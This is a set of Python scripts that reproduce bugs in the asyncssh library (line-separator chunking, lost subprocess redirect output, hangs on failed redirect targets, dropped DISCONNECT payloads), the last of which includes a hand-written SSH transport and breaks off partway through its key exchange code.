single-packet case return 'one\\r' as well, but then '\\r\\n' can never match,
so there is no way to get a chunking independent result.)
"""

import asyncio
import sys

import asyncssh

SEPARATORS = ('\r\n', '\r')


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


def make_handler(chunks):
    async def handler(process):
        for chunk in chunks:
            process.stdout.write(chunk)
            await asyncio.sleep(0.3)

        process.exit(0)

    return handler


async def read_records(chunks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=make_handler(chunks))
    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')
    proc = await conn.create_process('cmd')

    records = []

    while True:
        try:
            records.append(await proc.stdout.readuntil(SEPARATORS))
        except asyncio.IncompleteReadError as exc:
            if exc.partial:
                records.append(exc.partial)

            break

    await proc.wait()
    conn.close()
    server.close()

    return records


async def main():
    whole = await read_records(['one\r\ntwo\r\n'])
    split = await read_records(['one\r', '\ntwo\r\n'])

    print('separators: %r' % (SEPARATORS,))
    print('sent as one packet            -> %r' % whole)
    print("sent as 'one\\r' + '\\ntwo\\r\\n' -> %r" % split)

    if whole == split:
        print('OK: the split does not depend on the chunking')
        return 0
    else:
        print('BUG: the same stream is split differently depending on '
              'the packet boundary')
        return 1


sys.exit(asyncio.run(main()))
