"""create_subprocess(stdout=<target>) does not copy the beginning of the output
to the target: what arrives while the redirect is being set up is handed to
the protocol's pipe_data_received() instead.

Expected (property C19): a redirection copies all data and then EOF to its
target.  create_subprocess() takes the same stdin/stdout/stderr arguments as
create_process(), and create_process() does copy everything in the very same
situation (second half of this demo).

Observed: a command which answers at once ('hello world\\n', exit 0) is
started with stdout redirected to a pipe.  With create_subprocess() the pipe
receives nothing at all and the protocol, which should see no stdout data
while stdout is redirected, gets (1, 'hello world\\n').  With
create_process() the pipe receives 'hello world\\n'.

Responsible code: asyncssh/subprocess.py SSHSubprocessTransport.data_received()
together with asyncssh/connection.py SSHClientConnection.create_subprocess():

    _, transport = await self.create_session(transport_factory, ...)
    ...
    await transport.redirect(new_stdin, stdout, stderr, bufsize)

create_session() has already scheduled _start_reading(); redirect() has to
wait for connect_write_pipe()/connect_read_pipe() when a target or source is
a pipe, socket or tty, and in the meantime channel data is delivered.
SSHClientProcess.data_received() keeps such data in the receive buffer,
from which feed_recv_buf() replays it into the new writer;
SSHSubprocessTransport.data_received() instead passes everything for which
no writer is registered *yet* straight to the protocol, so it never reaches
the target.
"""

import asyncio
import os
import sys

import asyncssh

OUTPUT = 'hello world\n'


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    process.stdout.write(OUTPUT)
    process.exit(0)


class Protocol(asyncssh.SSHSubprocessProtocol):
    def __init__(self):
        self.received = []
        self.closed = asyncio.Event()

    def pipe_data_received(self, fd, data):
        self.received.append((fd, data))

    def pipe_connection_lost(self, fd, exc):
        if fd == 2:
            self.closed.set()


def read_available(fd):
    os.set_blocking(fd, False)
    data = b''

    try:
        while True:
            chunk = os.read(fd, 65536)

            if not chunk:
                break

            data += chunk
    except BlockingIOError:
        pass

    os.close(fd)
    return data


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=handler)
    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')

    # create_subprocess with stdout redirected to a pipe
    rfd, wfd = os.pipe()
    transport, protocol = await conn.create_subprocess(
        Protocol, 'cmd', stdout=wfd, encoding='utf-8')
    await asyncio.wait_for(protocol.closed.wait(), 20)
    await asyncio.wait_for(transport.wait_closed(), 20)
    await asyncio.sleep(0.2)
    sub_piped = read_available(rfd)

    print('create_subprocess: pipe received %r, protocol received %r, '
          'returncode %r' % (sub_piped, protocol.received,
                             transport.get_returncode()))

    # the same with create_process
    rfd, wfd = os.pipe()
    proc = await conn.create_process('cmd', stdout=wfd)
    result = await asyncio.wait_for(proc.wait(), 20)
    await asyncio.sleep(0.2)
    proc_piped = read_available(rfd)

    print('create_process   : pipe received %r, result.stdout %r, '
          'exit status %r' % (proc_piped, result.stdout, result.exit_status))

    conn.close()
    server.close()

    if sub_piped == OUTPUT.encode() and not protocol.received:
        print('OK: the redirect target received all of the output')
        return 0
    else:
        print('BUG: output bypassed the redirect target and went to the '
              'protocol instead')
        return 1


sys.exit(asyncio.run(main()))
