"""A redirect target which fails still hangs wait() (pipe/socket targets) or
brings down the whole connection (plain file targets).

Expected (property C19, and the behaviour commit 2cc557a "don't hang or drop
the connection when the target of an output redirect fails" established for
StreamWriter and async file targets): when the target of a redirection can
no longer be written, what is left for it is discarded; the channel is not
held up, wait()/run() return with the exit status, and other sessions on the
connection are not affected.

Observed:

  A. stdout of a command which produces 5 MB is redirected to a pipe.  The
     local reader of the pipe takes 1000 bytes and closes its end (think of
     `... | head`).  proc.wait() never returns, although the remote command
     could finish at any time if its output were consumed.

  B. stdout of a command is redirected to a file by path, and writing the
     file fails half way (here: file size limit, in real life a full disk).
     The OSError escapes from data_received() into the connection's packet
     handling; the connection is torn down, and an unrelated command running
     on the same connection returns exit_status None and no output.

Responsible code: asyncssh/process.py

  A. _PipeWriter.pause_writing()/connection_lost(): the pipe transport had
     asked to pause (SSHProcess.pause_feeding -> channel.pause_reading());
     when the transport then dies, connection_lost() only sets the close
     event.  asyncio never calls resume_writing() for a closed transport, so
     the datatype stays in _paused_write_streams, the channel stays paused
     for good, and the peer's close is never processed.

  B. _FileWriter.write(): self._file.write() is called synchronously from
     SSHProcess.data_received() without any of the protection 2cc557a gave
     to _AsyncFileWriter._writer() and _StreamWriter._feed().
"""

import asyncio
import logging
import os
import resource
import signal
import sys
import tempfile

import asyncssh


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    try:
        if process.command == 'big':
            for _ in range(100):
                process.stdout.write('x' * 50000)
                await process.stdout.drain()

            process.exit(0)
        else:
            await asyncio.sleep(1.5)
            process.stdout.write('other done\n')
            process.exit(0)
    except (OSError, asyncssh.Error):
        pass


async def part_a(conn):
    rfd, wfd = os.pipe()
    proc = await conn.create_process('big', stdout=wfd)

    await asyncio.sleep(0.5)
    got = os.read(rfd, 1000)
    os.close(rfd)
    print('A: local reader took %d bytes and closed the pipe' % len(got))

    try:
        result = await asyncio.wait_for(proc.wait(), 10)
        print('A: wait() returned, exit status %r' % result.exit_status)
        return False
    except (asyncio.TimeoutError, asyncssh.TimeoutError):
        print('A: BUG: wait() still hangs 10 seconds after the target '
              'was closed')
        proc.channel.abort()
        return True


async def part_b(conn):
    other = asyncio.ensure_future(conn.run('other'))
    await asyncio.sleep(0.2)

    path = tempfile.mktemp()

    try:
        result = await asyncio.wait_for(conn.run('big', stdout=path), 20)
        print('B: run() with failing file target: exit status %r, '
              '%d bytes in the file' % (result.exit_status,
                                        os.path.getsize(path)))
    except Exception as exc:
        print('B: run() with failing file target raised %r' % exc)

    try:
        other_result = await asyncio.wait_for(other, 20)
        print('B: unrelated command on the same connection: '
              'exit status %r, stdout %r' % (other_result.exit_status,
                                             other_result.stdout))
        bad = other_result.exit_status != 0 or \
            other_result.stdout != 'other done\n'
    except Exception as exc:
        print('B: unrelated command on the same connection raised %r' % exc)
        bad = True

    if os.path.exists(path):
        os.unlink(path)

    if bad:
        print('B: BUG: the failing redirect target took the whole '
              'connection down')

    return bad


async def main():
    logging.getLogger('asyncio').setLevel(logging.CRITICAL)

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=handler)

    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')
    bad_a = await part_a(conn)
    conn.close()

    # From here on, writing more than 120000 bytes to a file fails with
    # EFBIG, like a write to a full disk fails with ENOSPC
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    _, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (120000, hard))

    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')
    bad_b = await part_b(conn)
    conn.close()

    server.close()

    print('BUG shown' if bad_a or bad_b else 'OK')
    return 1 if bad_a or bad_b else 0


sys.exit(asyncio.run(main()))
