"""demo_3: payloads that arrive right behind a packet which asyncssh processes
asynchronously (SSH_MSG_KEXINIT here; SSH_MSG_USERAUTH_REQUEST on the server
side behaves the same) are silently thrown away when the TCP FIN arrives
before the asynchronous handler has finished - although the bytes were
delivered to asyncssh.  Whether the payload is processed depends only on how
the byte stream and the FIN are spaced in transit.

asyncssh/connection.py: _recv_packet() parks the input
(`self._recv_handler = lambda: False`) while the handler task runs and the
rest of the data stays in self._inpbuf; eof_received() -> connection_lost()
-> _force_close() -> _cleanup() then does `self._inpbuf = b''`.

The peer (independent implementation, server role) sends
    version, KEXINIT, DISCONNECT(12, "Too many connections"), FIN.
In run A the FIN follows 0.3 s later, in run B it follows immediately.  The
bytes are identical; the application must see the same DisconnectError.

Exit status 0: both runs report the disconnect reason sent by the peer.
Exit status 1: run B lost the DISCONNECT payload.

The first part of this file is a small independent SSH transport (written
from the RFCs on top of `cryptography`, hashlib and zlib; it imports nothing
from asyncssh).  The scenario is at the bottom.
"""


import asyncio
import hashlib
import hmac as _hmac
import os
import struct
import zlib

from cryptography.hazmat.primitives.asymmetric import x25519, ed25519, ec
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.poly1305 import Poly1305
from cryptography.hazmat.primitives import serialization

try:
    from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
except ImportError:
    TripleDES = algorithms.TripleDES


class WireError(Exception):
    """The peer put something on the wire an independent decoder rejects"""


def u32(v): return struct.pack('>I', v)
def sstr(b): return u32(len(b)) + b
def nlist(l): return sstr(b','.join(l))


def mpint(v):
    if v == 0:
        return u32(0)
    b = v.to_bytes((v.bit_length() + 7) // 8, 'big')
    if b[0] & 0x80:
        b = b'\0' + b
    return sstr(b)


class Rd:
    def __init__(self, data):
        self.d = data
        self.i = 0

    def take(self, n):
        if self.i + n > len(self.d):
            raise WireError('short payload')
        v = self.d[self.i:self.i+n]
        self.i += n
        return v

    def byte(self): return self.take(1)[0]
    def boolean(self): return bool(self.byte())
    def u32(self): return struct.unpack('>I', self.take(4))[0]
    def string(self): return self.take(self.u32())
    def namelist(self):
        s = self.string()
        return s.split(b',') if s else []
    def mpint(self): return int.from_bytes(self.string(), 'big', signed=True)
    def rest(self): return self.d[self.i:]


MSG_DISCONNECT, MSG_IGNORE, MSG_UNIMPLEMENTED, MSG_DEBUG = 1, 2, 3, 4
MSG_SERVICE_REQUEST, MSG_SERVICE_ACCEPT, MSG_EXT_INFO = 5, 6, 7
MSG_KEXINIT, MSG_NEWKEYS = 20, 21
MSG_KEX_ECDH_INIT, MSG_KEX_ECDH_REPLY = 30, 31
MSG_USERAUTH_REQUEST, MSG_USERAUTH_FAILURE, MSG_USERAUTH_SUCCESS = 50, 51, 52
MSG_USERAUTH_BANNER = 53
MSG_GLOBAL_REQUEST, MSG_REQUEST_SUCCESS, MSG_REQUEST_FAILURE = 80, 81, 82
MSG_CHANNEL_OPEN, MSG_CHANNEL_OPEN_CONFIRMATION = 90, 91
MSG_CHANNEL_OPEN_FAILURE, MSG_CHANNEL_WINDOW_ADJUST = 92, 93
MSG_CHANNEL_DATA, MSG_CHANNEL_EXTENDED_DATA, MSG_CHANNEL_EOF = 94, 95, 96
MSG_CHANNEL_CLOSE, MSG_CHANNEL_REQUEST = 97, 98
MSG_CHANNEL_SUCCESS, MSG_CHANNEL_FAILURE = 99, 100

# name: (keylen, ivlen, blocklen, kind)
CIPHERS = {
    b'aes128-ctr': (16, 16, 16, 'ctr'), b'aes192-ctr': (24, 16, 16, 'ctr'),
    b'aes256-ctr': (32, 16, 16, 'ctr'),
    b'aes128-cbc': (16, 16, 16, 'cbc'), b'aes192-cbc': (24, 16, 16, 'cbc'),
    b'aes256-cbc': (32, 16, 16, 'cbc'),
    b'3des-cbc': (24, 8, 8, '3des'),
    b'aes128-gcm@openssh.com': (16, 12, 16, 'gcm'),
    b'aes256-gcm@openssh.com': (32, 12, 16, 'gcm'),
    b'chacha20-poly1305@openssh.com': (64, 0, 8, 'chacha'),
}

# name: (keylen, taglen, hash, etm)
MACS = {}
for _n, _h, _k in ((b'hmac-sha2-256', hashlib.sha256, 32),
                   (b'hmac-sha2-512', hashlib.sha512, 64),
                   (b'hmac-sha1', hashlib.sha1, 20),
                   (b'hmac-md5', hashlib.md5, 16)):
    MACS[_n] = (_k, _k, _h, False)
    MACS[_n + b'-etm@openssh.com'] = (_k, _k, _h, True)
    MACS[_n + b'-96'] = (_k, 12, _h, False)
    MACS[_n + b'-96-etm@openssh.com'] = (_k, 12, _h, True)


class Direction:
    """Cipher/MAC/compression state for one direction"""

    def __init__(self):
        self.kind = None
        self.block = 8
        self.taglen = 0
        self.etm = False
        self.mac = None
        self.comp = None
        self.delayed = False
        self.seq = 0

    def setup(self, enc, mac, cmp_, key, iv, mackey, encrypt):
        klen, ivlen, block, kind = CIPHERS[enc]
        self.kind = kind
        self.block = max(8, block)
        self.key = key
        if kind in ('ctr', 'cbc', '3des'):
            alg = TripleDES(key) if kind == '3des' else algorithms.AES(key)
            mode = modes.CTR(iv) if kind == 'ctr' else modes.CBC(iv)
            c = Cipher(alg, mode)
            self.ctx = c.encryptor() if encrypt else c.decryptor()
            mklen, self.taglen, self.hash, self.etm = MACS[mac]
            self.mackey = mackey
            self.mac = True
        elif kind == 'gcm':
            self.fixed = iv[:4]
            self.ctr = int.from_bytes(iv[4:], 'big')
            self.taglen = 16
            self.etm = True     # length is in the clear
            self.mac = None
        else:
            self.k2, self.k1 = key[:32], key[32:]
            self.taglen = 16
            self.etm = True
            self.mac = None

    def hmac(self, seq, data):
        return _hmac.new(self.mackey, u32(seq) + data,
                         self.hash).digest()[:self.taglen]


def _chacha(key, nonce8, counter, data):
    full = struct.pack('<Q', counter) + nonce8
    return Cipher(algorithms.ChaCha20(key, full), mode=None) \
        .encryptor().update(data)


class Transport:
    """One end of an SSH transport over asyncio streams"""

    def __init__(self, reader, writer, client, *, kex=b'curve25519-sha256',
                 enc=b'aes128-ctr', mac=b'hmac-sha2-256', cmp_=b'none',
                 strict=True, ext_info=True, version=b'SSH-2.0-RawPeer_1.0',
                 chunk=None, chunk_delay=0.0, pad_extra=False,
                 hostkey_alg=b'ssh-ed25519', cmp_sc=None,
                 first_kex_follows=False):
        self.r, self.w = reader, writer
        self.client = client
        self.kex_algs = [kex] if isinstance(kex, bytes) else list(kex)
        self.enc_algs = [enc] if isinstance(enc, bytes) else list(enc)
        self.mac_algs = [mac] if isinstance(mac, bytes) else list(mac)
        self.cmp_algs = [cmp_] if isinstance(cmp_, bytes) else list(cmp_)
        if cmp_sc is None:
            self.cmp_sc_algs = self.cmp_algs
        else:
            self.cmp_sc_algs = [cmp_sc] if isinstance(cmp_sc, bytes) \
                else list(cmp_sc)
        self.first_kex_follows = first_kex_follows
        self.want_strict = strict
        self.want_ext = ext_info
        self.version = version
        self.chunk = chunk
        self.chunk_delay = chunk_delay
        self.pad_extra = pad_extra
        self.hostkey_alg = hostkey_alg
        self.out = Direction()
        self.inp = Direction()
        self.next_out = None
        self.next_in = None
        self.session_id = None
        self.strict = False
        self.auth_done = False      # for delayed compression
        self.buf = b''
        self.peer_version = None
        self.my_kexinit = None
        self.peer_kexinit = None
        self.hostkey = ed25519.Ed25519PrivateKey.generate()
        self.log = []
        self.rawlog = []            # (seq, total_len, padlen, payload)
        self.kex_count = 0
        self.pending_kexinit = False
        self.queued = []            # non-kex packets seen during a kex
        self.peer_kexinit_pending = False

    # ---- raw I/O ----

    async def _write(self, data):
        if self.chunk:
            for i in range(0, len(data), self.chunk):
                self.w.write(data[i:i+self.chunk])
                await self.w.drain()
                if self.chunk_delay:
                    await asyncio.sleep(self.chunk_delay)
                else:
                    await asyncio.sleep(0)
        else:
            self.w.write(data)
            await self.w.drain()

    async def _need(self, n):
        while len(self.buf) < n:
            d = await self.r.read(65536)
            if not d:
                raise EOFError('peer closed (have %d, need %d)' %
                               (len(self.buf), n))
            self.buf += d

    # ---- version ----

    async def exchange_version(self):
        await self._write(self.version + b'\r\n')
        while True:
            while b'\n' not in self.buf:
                d = await self.r.read(65536)
                if not d:
                    raise EOFError('peer closed in version exchange')
                self.buf += d
            line, self.buf = self.buf.split(b'\n', 1)
            if line.startswith(b'SSH-'):
                if not line.endswith(b'\r'):
                    raise WireError('version line without CR LF: %r' % line)
                self.peer_version = line[:-1]
                if len(line) + 1 > 255:
                    raise WireError('version line longer than 255')
                return
            if not self.client:
                raise WireError('junk before version: %r' % line)

    # ---- binary packets ----

    def build(self, payload, padlen=None):
        """Build one wire packet under the current outgoing state"""

        o = self.out
        if o.comp and (self.auth_done or not o.delayed):
            payload = o.comp.compress(payload) + o.comp.flush(getattr(self, 'flush_mode', zlib.Z_SYNC_FLUSH))
        hdr = 1 if o.etm else 5
        if padlen is None:
            padlen = -(hdr + len(payload)) % o.block
            if padlen < 4:
                padlen += o.block
            if self.pad_extra:
                # largest legal padding keeping alignment
                while padlen + o.block <= 255:
                    padlen += o.block
        body = bytes([padlen]) + payload + os.urandom(padlen)
        plen = u32(len(body))
        seq = o.seq
        if o.kind is None:
            pkt = plen + body
        elif o.kind in ('ctr', 'cbc', '3des'):
            if o.etm:
                e = plen + o.ctx.update(body)
                pkt = e + o.hmac(seq, e)
            else:
                tag = o.hmac(seq, plen + body)
                pkt = o.ctx.update(plen + body) + tag
        elif o.kind == 'gcm':
            iv = o.fixed + o.ctr.to_bytes(8, 'big')
            o.ctr = (o.ctr + 1) & 0xffffffffffffffff
            pkt = plen + AESGCM(o.key).encrypt(iv, body, plen)
        else:
            nonce = struct.pack('>Q', seq)
            elen = _chacha(o.k1, nonce, 0, plen)
            ebody = _chacha(o.k2, nonce, 1, body)
            pkey = _chacha(o.k2, nonce, 0, b'\0' * 32)
            pkt = elen + ebody + Poly1305.generate_tag(pkey, elen + ebody)
        o.seq = (seq + 1) & 0xffffffff
        return pkt

    async def send(self, payload, padlen=None):
        pkt = self.build(payload, padlen)
        await self._write(pkt)
        if payload[0] == MSG_NEWKEYS:
            self._newkeys_out()

    async def send_many(self, payloads):
        """Send several packets coalesced into one write"""

        data = b''
        for p in payloads:
            data += self.build(p)
            if p[0] == MSG_NEWKEYS:
                self._newkeys_out()
        await self._write(data)

    async def recv(self):
        """Strictly decode one packet, return the payload"""

        i = self.inp
        seq = i.seq
        if i.kind is None:
            await self._need(4)
            plen = struct.unpack('>I', self.buf[:4])[0]
            self._check_len(plen, i, 4 + plen)
            await self._need(4 + plen)
            body = self.buf[4:4+plen]
            self.buf = self.buf[4+plen:]
        elif i.kind in ('ctr', 'cbc', '3des'):
            if i.etm:
                await self._need(4)
                plen = struct.unpack('>I', self.buf[:4])[0]
                self._check_len(plen, i, plen)
                await self._need(4 + plen + i.taglen)
                e = self.buf[:4+plen]
                tag = self.buf[4+plen:4+plen+i.taglen]
                if not _hmac.compare_digest(i.hmac(seq, e), tag):
                    raise WireError('bad ETM MAC on seq %d' % seq)
                body = i.ctx.update(e[4:])
                self.buf = self.buf[4+plen+i.taglen:]
            else:
                await self._need(i.block)
                first = i.ctx.update(self.buf[:i.block])
                plen = struct.unpack('>I', first[:4])[0]
                self._check_len(plen, i, 4 + plen)
                await self._need(4 + plen + i.taglen)
                rest = i.ctx.update(self.buf[i.block:4+plen])
                clear = first + rest
                tag = self.buf[4+plen:4+plen+i.taglen]
                if not _hmac.compare_digest(i.hmac(seq, clear), tag):
                    raise WireError('bad MAC on seq %d' % seq)
                body = clear[4:]
                self.buf = self.buf[4+plen+i.taglen:]
        elif i.kind == 'gcm':
            await self._need(4)
            plen = struct.unpack('>I', self.buf[:4])[0]
            self._check_len(plen, i, plen)
            await self._need(4 + plen + 16)
            iv = i.fixed + i.ctr.to_bytes(8, 'big')
            i.ctr = (i.ctr + 1) & 0xffffffffffffffff
            try:
                body = AESGCM(i.key).decrypt(iv, self.buf[4:4+plen+16],
                                             self.buf[:4])
            except Exception:
                raise WireError('bad GCM tag on seq %d' % seq) from None
            self.buf = self.buf[4+plen+16:]
        else:
            nonce = struct.pack('>Q', seq)
            await self._need(4)
            plen = struct.unpack('>I', _chacha(i.k1, nonce, 0,
                                               self.buf[:4]))[0]
            self._check_len(plen, i, plen)
            await self._need(4 + plen + 16)
            pkey = _chacha(i.k2, nonce, 0, b'\0' * 32)
            try:
                Poly1305.verify_tag(pkey, self.buf[:4+plen],
                                    self.buf[4+plen:4+plen+16])
            except Exception:
                raise WireError('bad poly1305 tag on seq %d' % seq) from None
            body = _chacha(i.k2, nonce, 1, self.buf[4:4+plen])
            self.buf = self.buf[4+plen+16:]

        padlen = body[0]
        if padlen < 4:
            raise WireError('padding %d < 4 on seq %d' % (padlen, seq))
        if padlen + 1 > len(body):
            raise WireError('padding %d exceeds packet on seq %d' %
                            (padlen, seq))
        payload = body[1:len(body)-padlen]
        i.seq = (seq + 1) & 0xffffffff

        if i.comp and (self.auth_done or not i.delayed):
            try:
                payload = i.comp.decompress(payload)
            except zlib.error as exc:
                raise WireError('seq %d: payload is not valid zlib data '
                                '(%s)' % (seq, exc)) from None

        if not payload:
            raise WireError('empty payload on seq %d' % seq)

        self.rawlog.append((seq, len(body) + 4, padlen, payload))
        if payload[0] == MSG_NEWKEYS:
            self._newkeys_in()
        return payload

    def _check_len(self, plen, i, aligned):
        if plen < 5 or plen > 262144:
            raise WireError('bad packet length %d on seq %d' % (plen, i.seq))
        if aligned % i.block:
            raise WireError('packet length %d not aligned to %d on seq %d' %
                            (plen, i.block, i.seq))
        if 4 + plen + i.taglen < 16:
            raise WireError('packet shorter than 16 bytes on seq %d' % i.seq)

    # ---- key exchange ----

    def _kexinit_payload(self):
        kex = list(self.kex_algs)
        if self.want_ext:
            kex.append(b'ext-info-c' if self.client else b'ext-info-s')
        if self.want_strict:
            kex.append(b'kex-strict-c-v00@openssh.com' if self.client else
                       b'kex-strict-s-v00@openssh.com')
        return (bytes([MSG_KEXINIT]) + os.urandom(16) + nlist(kex) +
                nlist([self.hostkey_alg]) + nlist(self.enc_algs) +
                nlist(self.enc_algs) + nlist(self.mac_algs) +
                nlist(self.mac_algs) + nlist(self.cmp_algs) +
                nlist(self.cmp_sc_algs) + nlist([]) + nlist([]) +
                bytes([self.first_kex_follows]) + u32(0))

    async def send_kexinit(self):
        self.my_kexinit = self._kexinit_payload()
        await self.send(self.my_kexinit)

    def _parse_kexinit(self, payload):
        self.peer_kexinit = payload
        r = Rd(payload)
        r.byte()
        r.take(16)
        self.p_kex = r.namelist()
        self.p_hk = r.namelist()
        self.p_enc_cs, self.p_enc_sc = r.namelist(), r.namelist()
        self.p_mac_cs, self.p_mac_sc = r.namelist(), r.namelist()
        self.p_cmp_cs, self.p_cmp_sc = r.namelist(), r.namelist()
        r.namelist()
        r.namelist()
        r.boolean()
        r.u32()
        if r.rest():
            raise WireError('junk at end of KEXINIT')

    def _choose(self, mine, c_list_is_mine, theirs):
        clist, slist = (mine, theirs) if c_list_is_mine else (theirs, mine)
        for a in clist:
            if a in slist:
                return a
        raise WireError('no common alg: %r / %r' % (mine, theirs))

    def _negotiate(self):
        first = self.session_id is None
        if first:
            tag = b'kex-strict-s-v00@openssh.com' if self.client else \
                b'kex-strict-c-v00@openssh.com'
            self.strict = self.want_strict and tag in self.p_kex
        c = self.client
        self.kex = self._choose(self.kex_algs, c, self.p_kex)
        self.enc_cs = self._choose(self.enc_algs, c, self.p_enc_cs)
        self.enc_sc = self._choose(self.enc_algs, c, self.p_enc_sc)
        aead = lambda e: CIPHERS[e][3] in ('gcm', 'chacha')
        self.mac_cs = None if aead(self.enc_cs) else \
            self._choose(self.mac_algs, c, self.p_mac_cs)
        self.mac_sc = None if aead(self.enc_sc) else \
            self._choose(self.mac_algs, c, self.p_mac_sc)
        self.cmp_cs = self._choose(self.cmp_algs, c, self.p_cmp_cs)
        self.cmp_sc = self._choose(self.cmp_sc_algs, c, self.p_cmp_sc)

    def _hash(self):
        return {b'curve25519-sha256': hashlib.sha256,
                b'curve25519-sha256@libssh.org': hashlib.sha256,
                b'ecdh-sha2-nistp256': hashlib.sha256,
                b'ecdh-sha2-nistp384': hashlib.sha384,
                b'ecdh-sha2-nistp521': hashlib.sha512}[self.kex]

    def _ecdh_keypair(self):
        if self.kex.startswith(b'curve25519'):
            priv = x25519.X25519PrivateKey.generate()
            pub = priv.public_key().public_bytes(
                serialization.Encoding.Raw, serialization.PublicFormat.Raw)
            return priv, pub
        curve = {b'ecdh-sha2-nistp256': ec.SECP256R1(),
                 b'ecdh-sha2-nistp384': ec.SECP384R1(),
                 b'ecdh-sha2-nistp521': ec.SECP521R1()}[self.kex]
        priv = ec.generate_private_key(curve)
        pub = priv.public_key().public_bytes(
            serialization.Encoding.X962,
            serialization.PublicFormat.UncompressedPoint)
        return priv, pub

    def _ecdh_shared(self, priv, peer_pub):
        if self.kex.startswith(b'curve25519'):
            s = priv.exchange(x25519.X25519PublicKey.from_public_bytes(
                peer_pub))
        else:
            s = priv.exchange(ec.ECDH(),
                              ec.EllipticCurvePublicKey.from_encoded_point(
                                  priv.curve, peer_pub))
        return int.from_bytes(s, 'big')

    def _hostkey_blob(self):
        pub = self.hostkey.public_key().public_bytes(
            serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        return sstr(b'ssh-ed25519') + sstr(pub)

    def _derive(self, k_enc, h):
        hf = self._hash()
        if self.session_id is None:
            self.session_id = h

        def key(letter, n):
            out = hf(k_enc + h + letter + self.session_id).digest()
            while len(out) < n:
                out += hf(k_enc + h + out).digest()
            return out[:n]

        def params(enc, mac):
            klen, ivlen, _, _ = CIPHERS[enc]
            mklen = MACS[mac][0] if mac else 0
            return klen, ivlen, mklen

        k, i, m = params(self.enc_cs, self.mac_cs)
        cs = (self.enc_cs, self.mac_cs, self.cmp_cs,
              key(b'C', k), key(b'A', i), key(b'E', m))
        k, i, m = params(self.enc_sc, self.mac_sc)
        sc = (self.enc_sc, self.mac_sc, self.cmp_sc,
              key(b'D', k), key(b'B', i), key(b'F', m))
        self.next_out, self.next_in = (cs, sc) if self.client else (sc, cs)

    def _newkeys_out(self):
        if not self.next_out:
            raise RuntimeError('NEWKEYS sent without keys')
        enc, mac, cmp_, key, iv, mk = self.next_out
        seq = 0 if self.strict else self.out.seq
        d = Direction()
        d.setup(enc, mac, cmp_, key, iv, mk, True)
        d.seq = seq
        if cmp_ != b'none':
            d.comp = zlib.compressobj(getattr(self, 'zlevel', -1))
            d.delayed = cmp_ == b'zlib@openssh.com'
        self.out = d
        self.next_out = None

    def _newkeys_in(self):
        if not self.next_in:
            raise WireError('NEWKEYS received before kex finished')
        enc, mac, cmp_, key, iv, mk = self.next_in
        seq = 0 if self.strict else self.inp.seq
        d = Direction()
        d.setup(enc, mac, cmp_, key, iv, mk, False)
        d.seq = seq
        if cmp_ != b'none':
            d.comp = zlib.decompressobj()
            d.delayed = cmp_ == b'zlib@openssh.com'
        self.inp = d
        self.next_in = None

    async def recv_kex(self, want):
        """Receive the next kex-relevant packet; queue/ignore others"""

        while True:
            p = await self.recv()
            t = p[0]
            if t == want:
                return p
            if t in (MSG_IGNORE, MSG_DEBUG, MSG_UNIMPLEMENTED):
                if self.strict and self.inp.kind is None:
                    raise WireError('strict kex: type %d during initial kex'
                                    % t)
                continue
            if t == MSG_DISCONNECT:
                r = Rd(p[1:])
                code = r.u32()
                raise ConnectionError('peer disconnected: %d %r' %
                                      (code, r.string()))
            if t > 49 and self.session_id is not None and \
                    self.peer_kexinit_pending:
                # data that crossed our KEXINIT in flight is legal
                self.queued.append(p)
                continue
            raise WireError('unexpected packet type %d while waiting for %d'
                            % (t, want))

    async def do_kex(self, peer_kexinit=None, already_sent=False):
        """Run a full key exchange (initial or re-exchange)"""

        self.peer_kexinit_pending = peer_kexinit is None
        if not already_sent:
            await self.send_kexinit()
        if peer_kexinit is None:
            peer_kexinit = await self.recv_kex(MSG_KEXINIT)
        self.peer_kexinit_pending = False
        self._parse_kexinit(peer_kexinit)
        self._negotiate()

        hf = self._hash()
        if self.client:
            vc, vs = self.version, self.peer_version
            ic, is_ = self.my_kexinit, self.peer_kexinit
            priv, pub = self._ecdh_keypair()
            await self.send(bytes([MSG_KEX_ECDH_INIT]) + sstr(pub))
            r = Rd(await self.recv_kex(MSG_KEX_ECDH_REPLY))
            r.byte()
            ks = r.string()
            qs = r.string()
            sig = r.string()
            if r.rest():
                raise WireError('junk after ECDH_REPLY')
            k = mpint(self._ecdh_shared(priv, qs))
            h = hf(sstr(vc) + sstr(vs) + sstr(ic) + sstr(is_) + sstr(ks) +
                   sstr(pub) + sstr(qs) + k).digest()
            self.server_hostkey, self.server_sig, self.h = ks, sig, h
            self._derive(k, h)
            await self.send(bytes([MSG_NEWKEYS]))
            await self.recv_kex(MSG_NEWKEYS)
        else:
            vc, vs = self.peer_version, self.version
            ic, is_ = self.peer_kexinit, self.my_kexinit
            r = Rd(await self.recv_kex(MSG_KEX_ECDH_INIT))
            r.byte()
            qc = r.string()
            if r.rest():
                raise WireError('junk after ECDH_INIT')
            priv, pub = self._ecdh_keypair()
            k = mpint(self._ecdh_shared(priv, qc))
            ks = self._hostkey_blob()
            h = hf(sstr(vc) + sstr(vs) + sstr(ic) + sstr(is_) + sstr(ks) +
